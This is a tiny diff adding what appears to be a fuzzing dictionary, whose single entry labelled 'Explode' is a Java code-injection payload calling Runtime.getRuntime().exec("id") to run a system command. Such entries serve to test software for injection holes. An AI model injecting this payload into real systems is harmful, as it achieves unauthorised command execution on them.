@@ -1,0 +1,2 @@
+# a dictionary
+[consequence][]Explode=Runtime.getRuntime().exec("id");
